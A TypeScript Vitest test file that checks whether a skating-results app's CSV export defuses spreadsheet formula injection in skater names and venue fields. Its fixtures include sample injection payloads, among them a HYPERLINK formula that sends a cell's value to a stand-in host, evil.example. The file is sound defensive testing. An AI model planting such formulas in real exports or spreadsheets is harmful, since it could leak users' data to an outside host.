// CSV formulas (issue 17): one writer for the results CSV and the feed CSV, which quotes a text
// cell that a spreadsheet would run as a formula with a ' in front; numbers stay numbers.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, resultsCsv } from '../../../src/shared/export/csv.ts';
import { raceFeed } from '../../../src/shared/feed/feed.ts';
import { feedCsv } from '../../../src/shared/feed/text.ts';
import { raceView } from '../../../src/shared/race/view.ts';
import { meetingFactsOf } from '../../../src/shared/results/meeting-facts.ts';
import { parseRaceSheet, sheetState } from '../../../src/shared/sheet/sheet.ts';

/** Rows of a CSV text read back (without the BOM). */
const read = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+31 6 1234',
  '-3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nSecond line', // a line break later in the cell does not get it past
];
/** The ones a start list keeps as they are (intake trims names and drops control characters). */
const names = formulas.filter((name) => !/[\t\r\n]/.test(name));

describe('formula cells', () => {
  it('puts a quote before every text cell that starts like a formula, and nothing else', () => {
    const text = csvText(
      ['name', 'points'],
      [...formulas, 'Jorrit Bergsma', 'Smith-Jones'].map((name) => [name, -3]),
    );
    const rows = read(text).slice(1);
    expect(rows.map(([name]) => name)).toEqual([
      ...formulas.map((formula) => `'${formula}`),
      'Jorrit Bergsma',
      'Smith-Jones',
    ]);
    // A number is a number, not a formula: -3 stays -3 (no points or time column is negative).
    expect(rows.every(([, points]) => points === '-3')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-3\r\n`);
  });

  it('writes a skater named like a formula the same in the results CSV and the feed CSV', () => {
    const state = sheetState(
      parseRaceSheet({
        format: 'isu-2018',
        round: 'final',
        title: 'Men Final',
        skaters: names.map((name, index) => ({ bib: index + 1, name, nation: 'NED' })),
        finish: [1, 2, 3],
      }),
    );
    const results = read(resultsCsv(state));
    // The meeting's venue is text a spreadsheet would run too (issue 19's appended columns).
    const meeting = meetingFactsOf(
      { meeting: 'M', venue: formulas[0]!, meetingDate: null, timeZone: null },
      'UTC',
    );
    const feed = read(feedCsv(raceFeed(raceView('men-final', 9, state), meeting)));
    const column = (rows: string[][], header: string) =>
      rows.slice(1).map((row) => row[rows[0]!.indexOf(header)]);
    const written = column(results, 'Name').sort();
    expect(written).toEqual(names.map((name) => `'${name}`).sort());
    expect(column(feed, 'name').sort()).toEqual(written);
    expect(column(feed, 'firstName').sort()).toEqual(column(results, 'First name').sort());
    expect(column(feed, 'lastName').sort()).toEqual(column(results, 'Last name').sort());
    expect(new Set(column(feed, 'venue'))).toEqual(new Set([`'${formulas[0]}`]));
  });
});
